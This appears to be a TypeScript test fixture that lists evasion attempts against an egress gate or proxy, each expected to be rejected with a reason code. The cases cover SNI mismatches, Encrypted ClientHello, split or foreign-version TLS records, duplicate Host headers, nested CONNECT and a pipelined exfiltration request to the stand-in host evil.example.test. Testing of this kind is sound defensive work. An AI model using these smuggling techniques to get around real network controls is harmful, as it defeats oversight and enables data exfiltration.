import { type Attack, good, hidden, inTunnel, NAME, PAYLOAD, socksName, toProxy, transparent } from "./attack-scene.ts";
import { clientHello, extension, serverName } from "./gate-fixture.ts";

/** A warning of TLS, `no_renegotiation`, as a record. */
const WARNING = Buffer.from("15030100020164", "hex");

/** The same with another major version in its first record. */
function inRecords(major: number, bytes: Buffer): Buffer {
	return Buffer.concat([bytes.subarray(0, 1), Buffer.of(major), bytes.subarray(2)]);
}

export const streamAttacks: readonly Attack[] = [
	// TLS.
	{ name: "SNI of another name", act: inTunnel(clientHello({ sni: "evil.example.test" })), reason: "SNI_MISMATCH" },
	{
		name: "SNI of another name, transparent",
		act: transparent(() => clientHello({ sni: "evil.example.test" })),
		reason: "SNI_MISMATCH",
	},
	{
		name: "SNI of another name over SOCKS5",
		act: socksName(NAME, undefined, clientHello({ sni: "evil.example.test" })),
		reason: "SNI_MISMATCH",
	},
	{ name: "no SNI", act: inTunnel(clientHello({})), reason: "SNI_MISMATCH" },
	{
		name: "Encrypted ClientHello",
		act: inTunnel(clientHello({ sni: NAME, extensions: [extension(0xfe0d, Buffer.alloc(8))] })),
		reason: "SNI_MISMATCH",
	},
	{ name: "SNI with an embedded NUL", act: inTunnel(clientHello({ sni: `${NAME}\0.evil` })), reason: "SNI_MISMATCH" },
	{
		name: "two server names",
		act: inTunnel(clientHello({ sni: NAME, extensions: [serverName("evil.example.test")] })),
		reason: "SNI_MISMATCH",
	},
	{
		name: "two server names, the allowed one last",
		act: inTunnel(clientHello({ extensions: [serverName("evil.example.test"), serverName(NAME)] })),
		reason: "SNI_MISMATCH",
	},
	{
		name: "hello cut into small records",
		act: inTunnel(clientHello({ sni: "evil.example.test", recordBytes: 5 })),
		reason: "SNI_MISMATCH",
	},
	{
		name: "hello cut into too many records",
		act: inTunnel(clientHello({ sni: NAME, recordBytes: 1 })),
		reason: "SNI_MISMATCH",
	},
	{ name: "SSL 2 hello", act: inTunnel(Buffer.from("802e0103010015000000100000", "hex")), reason: "SNI_MISMATCH" },
	// Go's servers take any record version below 0x1000, and skip warnings.
	{
		name: "hello of another name in records of a foreign version",
		act: inTunnel(inRecords(4, clientHello({ sni: "evil.example.test" }))),
		reason: "SNI_MISMATCH",
	},
	{
		name: "hello of another name after a warning",
		act: inTunnel(Buffer.concat([WARNING, clientHello({ sni: "evil.example.test" })])),
		reason: "SNI_MISMATCH",
	},
	{
		name: "hello of another name after a warning of a foreign version",
		act: inTunnel(Buffer.concat([inRecords(4, WARNING), clientHello({ sni: "evil.example.test" })])),
		reason: "SNI_MISMATCH",
	},
	{
		name: "TLS that never finishes its hello",
		act: inTunnel(clientHello({ sni: NAME }).subarray(0, 40)),
		reason: "SNI_MISMATCH",
	},
	{
		name: "TLS after a PostgreSQL preamble",
		act: inTunnel(Buffer.concat([Buffer.from("0000000804d2162f", "hex"), clientHello({ sni: "evil.example.test" })])),
		reason: "SNI_MISMATCH",
		goodMay: /^.{8}$/s,
	},
	// HTTP on streams.
	{
		name: "Host of another name in a tunnel",
		act: inTunnel("GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"),
		reason: "SNI_MISMATCH",
	},
	{
		name: "Host of another name, transparent",
		act: transparent(() => "GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"),
		reason: "SNI_MISMATCH",
	},
	{ name: "Host of another port", act: inTunnel(`GET / HTTP/1.1\r\nHost: ${NAME}:1\r\n\r\n`), reason: "SNI_MISMATCH" },
	{ name: "HTTP/1.0 without Host", act: inTunnel("GET / HTTP/1.0\r\n\r\n"), reason: "SNI_MISMATCH" },
	{
		name: "two Hosts",
		act: transparent((scene) => `GET / HTTP/1.1\r\nHost: ${good(scene)}\r\nHost: evil.example.test\r\n\r\n`),
		reason: "INVALID_DESTINATION",
	},
	{
		name: "empty lines before another Host",
		act: inTunnel("\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"),
		reason: "INVALID_DESTINATION",
	},
	{
		name: "a method longer than any",
		act: inTunnel(`${"LONG".repeat(8)} / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`),
		reason: "INVALID_DESTINATION",
	},
	{
		name: "an unknown method on an endless line",
		act: inTunnel(`LOOK /${"a".repeat(9000)} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`),
		reason: "INVALID_DESTINATION",
	},
	{
		name: "a request line with other blanks",
		act: inTunnel("LOOK\v/\fHTTP/1.1\r\nHost: evil.example.test\r\n\r\n"),
		reason: "INVALID_DESTINATION",
	},
	{
		name: "empty lines without end before another Host",
		act: inTunnel(`${"\r\n".repeat(4500)}GET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`),
		reason: "INVALID_DESTINATION",
	},
	{ name: "HTTP/0.9", act: inTunnel("GET /\r\n"), reason: "INVALID_DESTINATION" },
	{ name: "HTTP/2 without TLS", act: inTunnel("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), reason: "INVALID_DESTINATION" },
	{
		name: "absolute form: a second hop",
		act: inTunnel("GET http://evil.example.test/ HTTP/1.1\r\nHost: good.example.test\r\n\r\n"),
		reason: "SNI_MISMATCH",
	},
	{
		name: "CONNECT inside CONNECT",
		act: inTunnel(`CONNECT evil.example.test:443 HTTP/1.1\r\nHost: ${NAME}\r\n\r\n`),
		reason: "SNI_MISMATCH",
	},
	{
		name: "pipelined request for another Host",
		act: transparent((scene) => `${hidden(scene)}GET /EXFILTRATED HTTP/1.1\r\nHost: evil.example.test\r\n\r\n`),
		reason: "SNI_MISMATCH",
		goodMay: /^GET \/ HTTP\/1\.1\r\n/,
	},
	{
		name: "CONNECT that names one host and means another",
		act: toProxy(({ good: port }) => `CONNECT ${NAME}:${port} HTTP/1.1\r\nHost: evil.example.test\r\n\r\n${PAYLOAD}`),
		reason: "SNI_MISMATCH",
	},
	{ name: "slow first byte of HTTP", act: inTunnel("GE"), reason: "SNI_MISMATCH" },
	{ name: "slow request head", act: inTunnel("GET / HTT"), reason: "INVALID_DESTINATION" },
];
